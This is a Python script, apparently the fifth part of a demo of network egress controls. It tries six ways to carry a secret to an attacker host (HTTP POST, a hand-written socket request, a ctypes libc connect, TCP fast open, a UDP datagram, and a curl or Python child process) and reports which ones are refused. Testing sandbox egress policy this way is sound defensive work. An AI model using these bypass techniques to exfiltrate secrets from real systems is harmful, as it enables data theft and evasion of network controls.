"""The program of act 5: it carries a secret out by whatever the machine offers. Standard library only, and guarded by nothing
but what runs it.

    python leak.py SECRET ATTACKER_HOST ATTACKER_PORT KB_HOST KB_PORT

Says what came of each way, one JSON object a line.
"""  # noqa: D205 - the first sentence is long

from __future__ import annotations

import ctypes
import http.client
import json
import shutil
import socket
import struct
import subprocess
import sys
from typing import NamedTuple

SECONDS = 5
MSG_FASTOPEN = 0x20000000


class Place(NamedTuple):
    """A server, by its address."""

    host: str
    port: int


def by_urllib(place: Place, secret: str) -> None:
    """The standard library's HTTP client."""
    connection = http.client.HTTPConnection(*place, timeout=SECONDS)
    connection.request("POST", "/http", secret)
    connection.getresponse().read()


def by_socket(place: Place, secret: str) -> None:
    """No HTTP client: a socket."""
    with socket.create_connection(place, SECONDS) as sock:
        sock.sendall(posted("/socket", secret))
        sock.recv(100)


def by_libc(place: Place, secret: str) -> None:
    """No Python either: the C library's own connect."""
    libc = ctypes.CDLL(None, use_errno=True)
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", place.port) + socket.inet_aton(place.host) + bytes(8)
    with socket.socket() as sock:
        if libc.connect(sock.fileno(), address, len(address)):
            raise OSError(ctypes.get_errno(), "connect")
        text = posted("/libc", secret)
        libc.send(sock.fileno(), text, len(text), 0)
        sock.recv(100)


def by_fast_open(place: Place, secret: str) -> None:
    """No connect at all: data in the first packet."""
    with socket.socket() as sock:
        sock.sendto(posted("/fast-open", secret), MSG_FASTOPEN, place)
        sock.settimeout(SECONDS)
        sock.recv(100)


def by_datagram(place: Place, secret: str) -> None:
    """No connection: a datagram."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(secret.encode(), place)


def by_child(place: Place, secret: str) -> None:
    """Not even this process: another program."""
    url = f"http://{place.host}:{place.port}/child"
    if curl := shutil.which("curl"):
        command = [curl, "--silent", "--show-error", "--noproxy", "*", "--max-time", str(SECONDS), "--data", secret, url]
    else:
        fetch = "import sys, urllib.request; urllib.request.urlopen(sys.argv[1], sys.argv[2].encode()).read()"
        command = [sys.executable, "-I", "-c", fetch, url, secret]
    ran = subprocess.run(command, capture_output=True, text=True, timeout=2 * SECONDS, check=False)  # noqa: S603 - the demo's own
    if ran.returncode:
        raise OSError(ran.stderr.strip().rpartition("\n")[2] or f"exit code {ran.returncode}")


WAYS = {
    "http": by_urllib,
    "socket": by_socket,
    "libc": by_libc,
    "fast-open": by_fast_open,
    "datagram": by_datagram,
    "child": by_child,
}


def posted(path: str, secret: str) -> bytes:
    """A request, written by hand."""
    return f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(secret)}\r\nConnection: close\r\n\r\n{secret}".encode()


def tried(name: str, place: Place, secret: str) -> str:
    """What came of a way: empty when nothing stood against it."""
    try:
        WAYS[name](place, secret)
    except Exception as error:  # noqa: BLE001 - whatever stands in the way is what is asked for
        return f"{type(error).__name__}: {error}".partition("\n")[0]
    return ""


def say(**outcome: str) -> None:
    """Tell whoever has started this program."""
    sys.stdout.write(f"{json.dumps(outcome)}\n")


def main(secret: str, attacker_host: str, attacker_port: str, kb_host: str, kb_port: str) -> None:
    """Try every way to the attacker, and two to a server that the policy allows."""
    attacker, kb = Place(attacker_host, int(attacker_port)), Place(kb_host, int(kb_port))
    for name in WAYS:
        say(way=name, to="attacker", refused=tried(name, attacker, secret))
    for name in ("socket", "child"):
        say(way=name, to="kb", refused=tried(name, kb, "hello"))


if __name__ == "__main__":
    main(*sys.argv[1:])
